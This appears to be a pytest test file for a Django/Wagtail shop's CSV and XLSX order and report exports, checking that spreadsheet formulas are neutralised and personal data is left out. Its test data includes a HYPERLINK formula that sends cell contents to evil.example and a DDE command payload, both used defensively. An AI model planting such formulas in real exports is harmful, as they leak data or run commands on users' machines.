"""Tables for spreadsheets: nothing that a buyer or an enterprise wrote is calculated on the accountant's computer."""

import csv
import datetime
import functools
import io
import operator
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from home.admin.exports import neutralised
from shop.models import Outbox
from shop.services.orders import payment_record
from tests.factories import make_order
from tests.shop.admin_people import client_of, make_person

EVIL = '=HYPERLINK("http://evil.example/?"&A1;"Kliknij")'
FORMULAS = [EVIL, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1", "＝1+1", "=cmd|' /C calc'!A0", "+48600100200"]
HARMLESS = ["", "Anna", "a=b", "1-2", "'=1", "2026-11-22", "Wazon – zielony", Decimal("-12.50"), -3, 0, None, datetime.date(2026, 1, 2)]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text(value):
    assert neutralised(value) == f"'{value}"


@pytest.mark.parametrize("value", HARMLESS)
def test_the_rest_stays_what_it_is(value):
    assert neutralised(value) is value


def rows_of(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(b"".join(response).decode())))


def cells_of(response) -> list[list]:
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response))).active
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
    return [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)]


@pytest.fixture
def order(make_product, make_enterprise):
    maker = make_enterprise(name=EVIL)
    order = make_order(make_product(enterprise=maker, price="120.00"), name="@Anna", city="+Poznań")
    payment_record(order=order, amount=Decimal("138.90"), received_on=timezone.localdate(), transaction_id="=T", notify=False)
    order.payments.model.objects.create(
        order=order, amount=Decimal("-18.90"), received_on=timezone.localdate(), transaction_id="R", payment_method="transfer"
    )
    return order


@pytest.mark.django_db
def test_orders_are_exported_for_bookkeeping(order):
    client = client_of(make_person("shop"))
    [row] = rows_of(client.get(reverse("orders:index"), {"export": "csv"}))
    values = list(row.values())
    assert values[0] == order.ref
    assert values[1].startswith(str(timezone.localdate()))
    assert values[5:10] == ["120.00", "Kurier", "120.00", "18.90", "138.90"]
    assert values[10] == f"'{EVIL}"
    text = " ".join(values)
    for personal in ("Anna", "anna@example.org", "600100200", "Lipowa", "Poznań"):
        assert personal not in text


@pytest.mark.django_db
def test_the_workbook_has_numbers_as_numbers(order):
    [row] = cells_of(client_of(make_person("shop")).get(reverse("orders:index"), {"export": "xlsx"}))
    assert [float(row[place]) for place in (5, 7, 8, 9)] == [120.0, 120.0, 18.9, 138.9]
    assert not isinstance(row[9], str)
    assert row[10] == f"'{EVIL}"


@pytest.mark.django_db
def test_a_negative_sum_stays_a_number(order):
    order.payments.all().update(amount=Decimal("-5.00"))
    [row] = rows_of(client_of(make_person("shop")).get(reverse("orders:index"), {"export": "csv"}))
    assert list(row.values())[5] == "-10.00"


@pytest.mark.django_db
def test_what_is_filtered_is_exported(order):
    client = client_of(make_person("shop"))
    assert rows_of(client.get(reverse("orders:index"), {"export": "csv", "status": "CANCELLED"})) == []
    assert len(rows_of(client.get(reverse("orders:index"), {"export": "csv", "q": order.ref}))) == 1


@pytest.mark.django_db
def test_the_list_offers_its_export(order):
    text = client_of(make_person("shop")).get(reverse("orders:index")).content.decode()
    assert "export=csv" in text
    assert "export=xlsx" in text


@pytest.mark.django_db
@pytest.mark.parametrize("role", ["communications", "workshop"])
def test_others_export_no_orders(order, role, make_enterprise):
    client = client_of(make_person(role, enterprise=make_enterprise()))
    response = client.get(reverse("orders:index"), {"export": "csv"})
    assert response.status_code == 302
    assert response.url == reverse("wagtailadmin_home")


@pytest.mark.django_db
def test_our_reports(order, make_product):
    product = make_product(name="=1+1", enterprise=order.parcels.get().enterprise)
    Outbox.objects.update(last_error="=1+1")
    client = client_of(make_person("owner"))
    goods = rows_of(client.get(reverse("market_report_goods_without_story"), {"export": "csv"}))
    row = next(row for row in goods if product.code in row.values())
    assert list(row.values()) == [product.code, "'=1+1", f"'{EVIL}"]
    mails = rows_of(client.get(reverse("market_report_outbox"), {"export": "csv"}))
    assert mails
    assert all(list(mail.values())[5] == "'=1+1" for mail in mails)


@pytest.mark.django_db
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("name", ["wagtailadmin_reports:site_history", "wagtailadmin_reports:aging_pages", "wagtailadmin_reports:locked_pages"])
def test_wagtails_own_reports(shop_tree, make_product, name, kind):
    page = make_product().pages.get()
    page.title = "=1+1"
    page.locked = True
    page.locked_at = timezone.now()
    person = make_person("owner")
    page.locked_by = person
    page.save()
    page.save_revision(user=person).publish()
    from wagtail.log_actions import log

    log(instance=page, action="wagtail.edit", user=person, title="=1+1")
    response = client_of(person).get(reverse(name), {"export": kind})
    cells = [value for row in rows_of(response) for value in row.values()] if kind == "csv" else functools.reduce(operator.iadd, cells_of(response), [])
    assert "=1+1" not in cells
    assert "'=1+1" in cells
